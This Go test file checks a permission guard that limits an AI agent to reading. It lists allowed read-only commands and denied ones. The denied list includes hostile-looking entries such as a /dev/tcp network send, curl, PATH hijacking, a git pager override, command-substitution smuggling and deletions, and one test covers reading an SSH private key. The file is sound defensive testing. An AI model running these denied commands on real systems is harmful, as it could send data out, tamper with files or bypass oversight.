package guard

import (
	"testing"
)

// TestReadOnly checks an agent that may only read: which commands pass, and which do more or
// cannot be understood.
func TestReadOnly(t *testing.T) {
	pass := []string{
		"ls -la", "cat a.go | head -40", "git diff", "git diff main...HEAD -- a.go", "git log --oneline -5",
		"git -C sub show HEAD:a.go", "git status --short",
		"git branch -a", "git stash list", "git grep -n TODO", "git tag -l 'v*'", "git worktree list",
		"git config --get user.name", "git remote -v",
		"go doc fmt.Println", "go list ./...", "go env GOROOT", "grep -rn foo . | sort | uniq -c", "rg -n 'a|b' src",
		"find . -name '*.go' -exec grep -l x {} +",
		"find . -name '*.go' | xargs wc -l", "for f in *.go; do head -5 \"$f\"; done", "cd sub && ls",
		"echo x 2>&1 > /dev/null", "n=3; tail -n $n a.go",
		"bash -c 'git show HEAD | cat'", "timeout 5 git log -1", "env LC_ALL=C sort a", "sed -n '10,25p' a.go",
		"sed -n /func/p a.go", "sed 's/a/b/g' a.go", "awk '{print $1}' a",
		"afar consult 'is this right?'", "git diff | afar consult",
		"{ echo 'what is wrong?'; git diff main...HEAD; } | afar consult -", "afar consult - <<'E'\nis it right?\nE",
		"afar consult --json 'x' 2>&1 | tail -5", "[ -f a ] && wc -l a", "while read -r l; do echo \"$l\"; done < a",
		"/usr/bin/env ls", "type go", "f() { ls; }; f",
		"cat <<'E'\nx\nE", "jq .a x.json", "test -d x || true", "date +%s", "date -d yesterday +%F",
		"git branch --contains HEAD", "git branch --list 'x*'", "xxd a", "printf '%s\\n' a",
	}
	deny := []string{
		"touch x", "echo x > a", "echo x >> a", "git commit -m x", "git push", "git fetch", "git checkout main",
		"git branch new", "git branch -d old", "git tag v1", "git stash",
		"git diff --output=x", "git log --outp x", "git -c core.pager=evil log", "git config user.name x",
		"git config --get a --add b", "git grep -Ovim x", "git show --ext-diff", "git worktree add x",
		"git remote add a b",
		"rm a", "mkdir x", "cp a b", "tee x < a", "sed -i s/a/b/ a", "sed -n 'w out' a", "sed 's/a/b/w out' a",
		"sed '1e touch x' a", "awk '{print > \"x\"}' a", "awk 'BEGIN{system(\"x\")}'", "awk -f x a",
		"sort -o a a", "sort -oa a", "find . -delete", "find . -exec rm {} +", "find . -fprint x", "fd -x rm",
		"rg --pre ./x a", "tree -o x", "xxd -r a b", "date -s 12:00", "man -P ./x ls", "printf -v PATH x",
		"python3 -c 'print(1)'", "node -e 1", "make", "go test ./...", "go build", "go vet ./...", "go env -w A=b",
		"go list -toolexec=./x ./...", "./script.sh", "bash script.sh", "sh < a", "curl example.org", "npm ls",
		"unknown-tool",
		"PATH=.:$PATH ls", "export PATH=.; ls", "GIT_EXTERNAL_DIFF=./x git diff", "read PATH < a; ls",
		"for PATH in .; do ls; done", "$X a", "git log $X", "eval \"$X\"", "bash -c \"$(cat x)\"", "xargs rm < a",
		"ls | xargs git show",
		"ls() { touch x; }; ls", "afar status", "afar allow ask_1", "afar call consult.end '{}'",
		"afar --session x consult y", "PATH=/tmp/x afar consult y", "./afar consult x", "codex exec x", "claude -p x",
		"echo x | gemini", "sh -c 'codex exec x'", "source x", ". ./x", "trap 'touch x' EXIT", "sudo ls", "(touch x)",
		"echo $(touch x)", "ls & touch x", "cat <(touch x)", "./ls", "bin/cat a",
		"git branch -v new", "git branch --sort=x new", "git tag -l -d v1", "git remote -v add a b",
		"git remote -v update", "git help -w x", "xxd a b", "uniq a b", "date 010100002026",
		"time -o x ls && command time -o x ls",
		"less +!touch a", "man ls", "ls | xargs -I{} sh -c '{}'", "ls | xargs -I{} {} x",
		"find . -execdir touch x {} +", "find . -ok rm {} +", "cat a > /dev/tcp/example.org/80", "cat > >(touch x)",
		"coproc touch x",
		"{ touch x; }", "if touch x; then ls; fi", "while touch x; do ls; done", "case $(touch x) in a) ;; esac",
		"! touch x", "[[ -n $(touch x) ]]", "a=$(touch x)", "cat <<E\n$(touch x)\nE", "echo \"${a:-$(touch x)}\"",
		"a=($(touch x))", "cat <<< $(touch x)", "cat < $(touch x)", "for ((i=0;i<1;i++)); do touch x; done",
		"echo `touch x`", "f() { touch x; }; f", "alias ls='touch x'; ls", "select a in b; do touch x; done",
		"command touch x", "nice touch x", "timeout 5 touch x", "env -i touch x", "env touch x", "exec touch x",
		"ls; rm x; ls", "ls || rm x", "ls |& tee x", "ls &> x", "ls >| x", "exec 3> x", "echo $((`touch x`))",
		"a[$(touch x)]=1", "'unterminated",
	}
	ctx := testContext()
	ctx.ReadOnly = true
	for _, cmd := range pass {
		if d := Judge(bash(cmd), ctx); d.Verdict != None {
			t.Errorf("%s: %q by %s (%s %s)", cmd, d.Verdict, d.Rule, d.Person, d.Part)
		}
	}
	for _, cmd := range deny {
		if d := Judge(bash(cmd), ctx); d.Verdict != Deny {
			t.Errorf("%s: %q by %s", cmd, d.Verdict, d.Rule)
		}
	}
	ctx.ReadOnly = false
	if d := Judge(bash("touch x"), ctx); d.Verdict != None {
		t.Errorf("another agent was held to reading: %+v", d)
	}
}

func TestReadOnlyTools(t *testing.T) {
	ctx := testContext()
	ctx.ReadOnly = true
	for tool, want := range map[string]Verdict{
		"Read": None, "Grep": None, "Glob": None, "NotebookRead": None,
		"Write": Deny, "Edit": Deny, "MultiEdit": Deny, "NotebookEdit": Deny, "mcp__db__query": Deny,
		"mcp__fs__read_file": Deny,
		"Task":               Deny, "Agent": Deny, "WebFetch": Deny, "Monitor": Deny, "Skill": Deny,
		"SomethingNew": Deny, "": Deny,
	} {
		d := Judge(Call{Tool: tool, Args: []Arg{{Path: "file_path", Value: "/home/dev/proj/a.go"},
			{Path: "prompt", Value: "x"}}}, ctx)
		if d.Verdict != want || want == Deny && d.Rule != "agent.reads" {
			t.Errorf("%s: %q by %s, want %q", tool, d.Verdict, d.Rule, want)
		}
	}
	secret := Judge(Call{Tool: "Read", Args: []Arg{{Path: "file_path", Value: "/home/dev/.ssh/id_rsa"}}}, ctx)
	if secret.Verdict != Ask {
		t.Errorf("reading credentials: %q", secret.Verdict)
	}
}

// TestStepCalls checks that a program counts if it is run, and not if it is only named.
func TestStepCalls(t *testing.T) {
	ctx := testContext()
	ctx.ReadOnly = true
	for cmd, want := range map[string]bool{
		"afar consult x": true, "git diff | afar consult -": true, "sh -c 'afar consult x'": true,
		"timeout 500 afar consult x": true, "cd sub && afar consult x": true,
		"echo afar consult x": false, "afar": false, "afar log": false, "grep -rn 'afar consult' .": false,
		"cat <<E\nafar consult x\nE": false, "": false,
	} {
		if got := Judge(bash(cmd), ctx).Steps.Calls("afar", "consult"); got != want {
			t.Errorf("%q: %t", cmd, got)
		}
	}
}
